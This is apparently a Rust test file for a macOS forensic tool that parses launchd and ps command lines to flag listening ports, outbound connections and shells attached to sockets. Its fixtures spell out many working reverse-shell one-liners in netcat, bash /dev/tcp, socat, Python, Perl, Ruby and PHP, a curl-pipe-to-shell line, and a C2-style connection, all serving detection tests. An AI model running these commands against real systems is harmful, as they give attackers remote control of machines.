//! Scripts and code inside of arguments, shells on sockets, and lines of `ps` (formats.md 4.6).

use super::arguments::said;
use super::lines;
use portolan::artifacts::launchd::plist::arguments::{declared_in_arguments, split_command};

const SCRIPTS: &[(&[&str], &[&str])] = &[
    (&["/bin/sh", "-c", "cd /x && nc -l 4444 > /tmp/out"], &["listen tcp ? ? 4444 high"]),
    (&["/bin/zsh", "-lc", "PORT=3000 exec node 'my app.js'"], &["listen ? ? ? 3000 medium"]),
    (
        &["/bin/bash", "-c", "sh -c \"sh -c 'nc 203.0.113.7 4444'\""],
        &["outbound tcp 4 203.0.113.7 4444 high"],
    ),
    (
        &["/usr/bin/osascript", "-e", "do shell script \"curl http://203.0.113.7:8080/x | sh\""],
        &["outbound tcp 4 203.0.113.7 8080 medium"],
    ),
    (
        &[
            "/bin/sh",
            "-c",
            "while true; do ( sudo -u mei nohup nc 203.0.113.7 4444 ); sleep 5; done",
        ],
        &["outbound tcp 4 203.0.113.7 4444 high"],
    ),
    (
        &["/bin/sh", "-c", "# nc 203.0.113.7 1\nnc \\\n203.0.113.7 2"],
        &["outbound tcp 4 203.0.113.7 2 high"],
    ),
    (
        &["/bin/sh", "-c", "x=$(nc 203.0.113.7 3); y=`nc 203.0.113.7 4`"],
        &["outbound tcp 4 203.0.113.7 3 high", "outbound tcp 4 203.0.113.7 4 high"],
    ),
    (
        &["/usr/bin/env", "-i", "PORT=81", "timeout", "9", "python3", "-m", "http.server", "82"],
        &["listen ? ? ? 81 medium", "listen tcp ? * 82 high"],
    ),
    (
        &["/bin/bash", "-c", "cat < /dev/tcp/203.0.113.7/13"],
        &["outbound tcp 4 203.0.113.7 13 high"],
    ),
    (
        &["/bin/bash", "-c", "exec 5<>/dev/udp/c2.example.org/53"],
        &["outbound udp ? c2.example.org 53 high"],
    ),
    (&["/bin/bash", "-c", "echo > /dev/tcp/$HOST/$PORT"], &[]),
    (
        &["perl", "-MIO::Socket", "-e", "$c=IO::Socket::INET->new(PeerAddr=>\"203.0.113.7:4444\")"],
        &["outbound tcp 4 203.0.113.7 4444 high"],
    ),
    (
        &[
            "perl",
            "-e",
            "use IO::Socket; IO::Socket::INET->new(PeerAddr => '203.0.113.7', PeerPort => 4445)",
        ],
        &["outbound tcp 4 203.0.113.7 4445 high"],
    ),
    (
        &[
            "perl",
            "-e",
            "use Socket;$i=\"203.0.113.7\";$p=4446;connect(S,sockaddr_in($p,inet_aton($i)))",
        ],
        &["outbound tcp 4 203.0.113.7 4446 high"],
    ),
    (
        &["ruby", "-rsocket", "-e", "s=TCPSocket.open(\"203.0.113.7\",4447)"],
        &["outbound tcp 4 203.0.113.7 4447 high"],
    ),
    (&["ruby", "-rsocket", "-e", "TCPServer.new(4448).accept"], &["listen tcp ? ? 4448 high"]),
    (
        &[
            "python3",
            "-c",
            "import socket\nh='203.0.113.7'\ns=socket.socket()\ns.connect((h, 4449))",
        ],
        &["outbound tcp 4 203.0.113.7 4449 high"],
    ),
    (
        &["python3", "-c", "import socket;s=socket.socket();s.bind((\"\",4450));s.listen(1)"],
        &["listen tcp ? * 4450 high"],
    ),
    (
        &["php", "-r", "$s=fsockopen(\"203.0.113.7\",4451);"],
        &["outbound tcp 4 203.0.113.7 4451 high"],
    ),
    (
        &["node", "-e", "require('net').connect(4452, '203.0.113.7')"],
        &["outbound tcp 4 203.0.113.7 4452 high"],
    ),
    (
        &["node", "-e", "require('http').createServer().listen(4453, () => {})"],
        &["listen tcp ? ? 4453 high"],
    ),
    (&["python3", "-c", "print('a:b', 8080)"], &[]),
];

#[test]
fn scripts_in_arguments_are_read_again() {
    for (words, expected) in SCRIPTS {
        assert_eq!(lines(&declared_in_arguments(words).ports), *expected, "{words:?}");
    }
}

const SHELLS: &[(&[&str], Option<&str>)] = &[
    (&["nc", "-e", "/bin/sh", "203.0.113.7", "4444"], Some("netcat runs a shell")),
    (&["ncat", "-lk", "4444", "-c", "/bin/bash -i"], Some("netcat runs a shell")),
    (&["ncat", "--sh-exec", "zsh", "203.0.113.7", "4444"], Some("netcat runs a shell")),
    (
        &[
            "/bin/sh",
            "-c",
            "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f",
        ],
        Some("a shell and netcat are joined by a named pipe"),
    ),
    (
        &["/bin/sh", "-c", "nc 203.0.113.7 4444 | bash"],
        Some("a shell and netcat are joined by a pipe"),
    ),
    (
        &["/bin/sh", "-c", "telnet 203.0.113.7 1 | /bin/sh | telnet 203.0.113.7 2"],
        Some("a shell and netcat are joined by a pipe"),
    ),
    (
        &["/bin/bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"],
        Some("a shell reads from /dev/tcp"),
    ),
    (
        &[
            "/bin/bash",
            "-c",
            "exec 5<>/dev/tcp/203.0.113.7/4444; cat <&5 | while read l; do $l 2>&5 >&5; done",
        ],
        Some("a shell reads from /dev/tcp"),
    ),
    (
        &["/bin/bash", "-c", "exec bash -i &>/dev/tcp/203.0.113.7/4444 <&1"],
        Some("a shell reads from /dev/tcp"),
    ),
    (
        &[
            "/bin/zsh",
            "-c",
            "zmodload zsh/net/tcp && ztcp 203.0.113.7 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY",
        ],
        Some("a shell reads from a socket of zsh/net/tcp"),
    ),
    (
        &[
            "python3",
            "-c",
            "import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.7\",4444));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])",
        ],
        Some("interpreter code gives a socket to a shell"),
    ),
    (
        &[
            "perl",
            "-e",
            "use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton(\"203.0.113.7\")));open(STDIN,\">&S\");exec(\"/bin/sh -i\");",
        ],
        Some("interpreter code gives a socket to a shell"),
    ),
    (
        &[
            "ruby",
            "-rsocket",
            "-e",
            "f=TCPSocket.open(\"203.0.113.7\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d\",f)",
        ],
        Some("interpreter code gives a socket to a shell"),
    ),
    (
        &["php", "-r", "$s=fsockopen(\"203.0.113.7\",4444);exec(\"/bin/sh -i <&3\");"],
        Some("interpreter code gives a socket to a shell"),
    ),
    (&["socat", "TCP:203.0.113.7:4444", "EXEC:/bin/bash,pty,stderr"], Some("socat runs a shell")),
    (&["socat", "tcp-listen:4444,fork", "exec:'bash -li'"], None),
    (&["socat", "exec:bash -li", "tcp-listen:4444,fork"], Some("socat runs a shell")),
    // Their harmless cousins.
    (&["/bin/bash", "-i"], None),
    (&["nc", "-c", "203.0.113.7", "80"], None),
    (&["/bin/sh", "-c", "curl https://example.org/install | sh"], None),
    (&["/bin/sh", "-c", "echo hello | nc 203.0.113.7 80"], None),
    (&["/bin/sh", "-c", "nc -z localhost 80; sh /opt/x.sh"], None),
    (&["/bin/bash", "-c", "echo > /dev/tcp/localhost/80 && echo up"], None),
    (&["python3", "-c", "import subprocess;subprocess.call(['/bin/sh','-c','ls'])"], None),
    (&["python3", "-c", "import socket;socket.create_connection((\"203.0.113.7\",80))"], None),
    (&["socat", "TCP-LISTEN:80", "TCP:203.0.113.7:80"], None),
];

#[test]
fn a_shell_on_a_socket_is_told_by_its_pattern() {
    for (words, expected) in SHELLS {
        assert_eq!(declared_in_arguments(words).shell_on_socket, *expected, "{words:?}");
    }
}

#[test]
fn the_script_of_an_interpreter_is_the_first_path() {
    for (command, expected) in [
        ("/usr/bin/python3 -u /opt/x.py --port 1", Some("/opt/x.py")),
        ("/usr/bin/env python3 /opt/x.py", Some("/opt/x.py")),
        ("/bin/zsh /Users/mei/bin/backup.sh", Some("/Users/mei/bin/backup.sh")),
        ("/bin/sh -x ./run", Some("./run")),
        ("perl -w -Ilib x.pl", Some("x.pl")),
        ("node -r dotenv/config /opt/app.js", Some("/opt/app.js")),
        ("osascript -l JavaScript /opt/x.scpt", Some("/opt/x.scpt")),
        ("php -d a=b /opt/x.php", Some("/opt/x.php")),
        ("/bin/sh -c /opt/run.sh", None),
        ("python3 -m http.server", None),
        ("/bin/bash -i", None),
        ("python3 word", None),
        ("/opt/x /opt/y.py", None),
    ] {
        assert_eq!(said(command).script.as_deref(), expected, "{command}");
    }
    let nested = declared_in_arguments(&["/bin/sh", "-c", "exec python3 /opt/x.py"]);
    assert_eq!(nested.script.as_deref(), Some("/opt/x.py"));
}

#[test]
fn a_line_of_ps_reads_like_the_arguments_it_was() {
    for (line, ports, shell) in [
        (
            "/bin/sh -c rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.7 4444 >/tmp/f",
            "outbound tcp 4 203.0.113.7 4444 high",
            true,
        ),
        (
            "bash -c bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
            "outbound tcp 4 203.0.113.7 4444 high",
            true,
        ),
        (
            "python3 -c import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.7\",4444));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")",
            "outbound tcp 4 203.0.113.7 4444 high",
            true,
        ),
        ("  /usr/bin/ssh -N -D 1080 mei@203.0.113.7", "listen tcp ? localhost 1080 high", false),
        ("-zsh", "", false),
    ] {
        let words = split_command(line);
        let words: Vec<&str> = words.iter().map(String::as_str).collect();
        let found = declared_in_arguments(&words);
        assert_eq!(found.ports.first().map(super::line).unwrap_or_default(), ports, "{line}");
        assert_eq!(found.shell_on_socket.is_some(), shell, "{line}");
    }
}

#[test]
fn quotes_count_only_around_a_word() {
    assert_eq!(split_command("a 'b c' \"d e\" f'g h"), ["a", "b c", "d e", "f'g", "h"]);
    assert_eq!(split_command("it's 'half"), ["it's", "'half"]);
    assert_eq!(split_command("  "), [""; 0]);
}

#[test]
fn endless_arguments_end_quickly() {
    let nested =
        (0..2000).fold("nc 203.0.113.7 4444".to_owned(), |script, _| format!("sh -c '{script}'"));
    let _ = declared_in_arguments(&["sh", "-c", &nested]);
    for unit in [
        "nc 203.0.113.7 4444;",
        "/dev/tcp/",
        "$(",
        "'",
        "connect((",
        "http://a:1 ",
        "env ",
        "x=1 ",
        "| sh ",
        "\\",
        "sh -c x;",
    ] {
        let long = unit.repeat(1_000_000 / unit.len());
        let _ = declared_in_arguments(&["sh", "-c", &long]);
        let _ = declared_in_arguments(&["python3", "-c", &long]);
        let _ = declared_in_arguments(&[&long]);
        let words = split_command(&long);
        let words: Vec<&str> = words.iter().map(String::as_str).collect();
        let _ = declared_in_arguments(&words);
    }
    let many = ["--port", "80", "env"].repeat(300_000);
    assert!(declared_in_arguments(&many).ports.len() <= 256);
}

#[test]
fn no_arguments_panic() {
    let seeds = [
        "/bin/sh -c mkfifo f; nc -e /bin/sh [::1]:80 <f | sh -i >& /dev/tcp/a/1 `x` $(y) \"q\\\"\" 'z'",
        "ssh -oPort=1 -L[::1]:1:h:2 -D*:3 -Ja:4,b ssh://u@[::1]:5",
        "socat TCP-LISTEN:1,bind=[::1] EXEC:\"sh -i\",pty!!SOCKS4A:p:h:1",
        "perl -e $i=\"1.2.3.4\";$p=1;sockaddr_in($p,inet_aton($i));PeerAddr=>\"h:1\"",
        "x --http-Port=é:1 --listen ☃:80 http://é@☃:1/ -Dé.port=1 -p☃ -☃ é=☃",
    ];
    for seed in seeds {
        let ends = seed.char_indices().map(|(at, _)| at);
        for at in ends {
            for junk in ["", "\u{0}", "é", "'", "(", "=", ":", "-", " "] {
                let line = format!("{}{junk}{}", &seed[..at], &seed[at..]);
                let words = split_command(&line);
                let words: Vec<&str> = words.iter().map(String::as_str).collect();
                let _ = declared_in_arguments(&words);
            }
        }
    }
}
